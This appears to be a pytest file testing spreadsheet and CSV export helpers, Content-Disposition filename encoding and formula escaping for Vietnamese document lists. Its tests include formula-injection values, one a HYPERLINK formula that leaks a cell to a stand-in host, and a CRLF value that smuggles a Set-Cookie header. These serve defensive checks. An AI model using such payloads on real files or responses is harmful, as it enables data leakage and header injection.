"""List exports: typed XLSX with a frozen bold header, Excel-friendly CSV, and Vietnamese filenames."""

from __future__ import annotations

import csv
import io
from datetime import date
from urllib.parse import unquote

import pytest

from core.tabular import Column, content_disposition, export_response, to_csv, to_xlsx

ROWS = [
    {"code": "QT-HT-01", "title": "Quy trình kiểm soát thông tin dạng văn bản", "issued": date(2025, 8, 4),
     "edition": 2, "unit": {"name": "Văn phòng Sở"}},
    {"code": "QT-HT-02", "title": "Quy trình đánh giá nội bộ", "issued": None, "edition": 1,
     "unit": {"name": "Phòng Hành chính"}},
]
COLUMNS = [Column("Mã hiệu", "code"), Column("Tên tài liệu", "title"), Column("Ngày ban hành", "issued"),
           Column("Lần ban hành", "edition"), Column("Đơn vị", "unit.name"),
           Column("Mã thường", lambda row: row["code"].lower())]


def test_xlsx_has_bold_frozen_header_typed_cells_and_widths():
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(to_xlsx(ROWS, COLUMNS, sheet_title="Danh mục tài liệu")))
    sheet = workbook.active
    assert sheet.title == "Danh mục tài liệu"
    assert [c.value for c in sheet[1]] == ["Mã hiệu", "Tên tài liệu", "Ngày ban hành", "Lần ban hành",
                                           "Đơn vị", "Mã thường"]
    assert all(c.font.bold for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.max_row == 3
    assert sheet["B2"].value == "Quy trình kiểm soát thông tin dạng văn bản"
    assert sheet["C2"].value.date() == date(2025, 8, 4) and sheet["C2"].number_format == "dd/mm/yyyy"
    assert sheet["D2"].value == 2 and sheet["E3"].value == "Phòng Hành chính" and sheet["F3"].value == "qt-ht-02"
    assert sheet["C3"].value in (None, "")
    assert sheet.column_dimensions["B"].width > sheet.column_dimensions["A"].width


def test_csv_is_utf8_with_bom_and_exact_text():
    data = to_csv(ROWS, COLUMNS)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0][0] == "Mã hiệu"
    assert rows[1] == ["QT-HT-01", "Quy trình kiểm soát thông tin dạng văn bản", "04/08/2025", "2",
                       "Văn phòng Sở", "qt-ht-01"]
    assert rows[2][2] == ""
    assert len(rows) == 3


def test_filename_is_rfc5987_with_ascii_fallback():
    header = content_disposition("Danh mục tài liệu Đà Nẵng.xlsx")
    assert header.startswith('attachment; filename="Danh_muc_tai_lieu_Da_Nang.xlsx"')
    encoded = header.split("filename*=UTF-8''", 1)[1]
    assert unquote(encoded) == "Danh mục tài liệu Đà Nẵng.xlsx"
    assert " " not in encoded and '"' not in encoded
    assert "\n" not in content_disposition("a\r\nSet-Cookie: x.csv")


def test_export_response_sets_type_and_rejects_unknown_format():
    response = export_response(ROWS, COLUMNS, fmt="csv", basename="tài-liệu")
    assert response["Content-Type"].startswith("text/csv")
    assert "filename*=UTF-8''t%C3%A0i-li%E1%BB%87u-" in response["Content-Disposition"]
    assert response.content.startswith(b"\xef\xbb\xbf")
    xlsx = export_response(ROWS, COLUMNS, fmt="XLSX", basename="documents")
    assert xlsx["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert xlsx.content[:2] == b"PK"
    with pytest.raises(ValueError):
        export_response(ROWS, COLUMNS, fmt="pdf", basename="x")


FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm vào\")", "+1+1", "-2+3", "@SUM(A1:A2)", "\tTab"]


def _rows_with_formulas():
    return [{"code": text, "n": -5} for text in FORMULAS] + [{"code": "QT-HT-01 = bình thường", "n": 3}]


def test_csv_writes_formula_like_text_as_text():
    """User text starting with = + - @ (or a tab) is prefixed so a spreadsheet shows it, never runs it;
    numbers, even negative, stay numbers and other text is unchanged."""
    columns = [Column("Mã", "code"), Column("Số", "n")]
    rows = list(csv.reader(io.StringIO(to_csv(_rows_with_formulas(), columns).decode("utf-8-sig"))))
    assert [row[0] for row in rows[1:]] == ["'" + text for text in FORMULAS] + ["QT-HT-01 = bình thường"]
    assert rows[1][1] == "-5"


def test_xlsx_stores_formula_like_text_as_strings_not_formulas():
    from openpyxl import load_workbook

    columns = [Column("Mã", "code"), Column("Số", "n")]
    sheet = load_workbook(io.BytesIO(to_xlsx(_rows_with_formulas(), columns))).active
    cells = [sheet.cell(row=index, column=1) for index in range(2, 2 + len(FORMULAS))]
    assert [cell.value for cell in cells] == FORMULAS  # exactly what was typed
    assert {cell.data_type for cell in cells} == {"s"}  # text, not "f" (a formula)
    assert sheet.cell(row=2, column=2).value == -5 and sheet.cell(row=2, column=2).data_type == "n"
